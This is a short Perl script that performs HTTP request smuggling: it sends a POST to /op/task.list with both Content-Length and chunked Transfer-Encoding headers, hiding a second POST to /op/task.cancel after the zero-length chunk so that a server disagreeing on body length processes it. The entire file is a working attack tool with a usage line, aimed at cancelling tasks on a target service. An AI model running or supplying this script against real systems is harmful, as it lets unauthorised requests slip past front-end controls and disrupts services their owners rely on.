# Hides a second request in the body of a first one, by saying twice how long that body is.
#   perl hidden-request.pl <host:port> <token> <task>
use strict;
use IO::Socket::INET;
my ($door, $token, $task) = @ARGV;
my $socket = IO::Socket::INET->new($door) or die "$door: $!\n";
my $order = "{\"task\":$task}";
my $hidden = "POST /op/task.cancel HTTP/1.1\r\nHost: $door\r\nContent-Length: " . length($order) . "\r\n\r\n$order";
my $body = "0\r\n\r\n$hidden";
my $both = "Content-Length: " . length($body) . "\r\nTransfer-Encoding: chunked\r\n";
print $socket "POST /op/task.list HTTP/1.1\r\nHost: $door\r\nAuthorization: Bearer $token\r\n$both\r\n$body";
$socket->flush;
shutdown($socket, 1);
print while <$socket>;
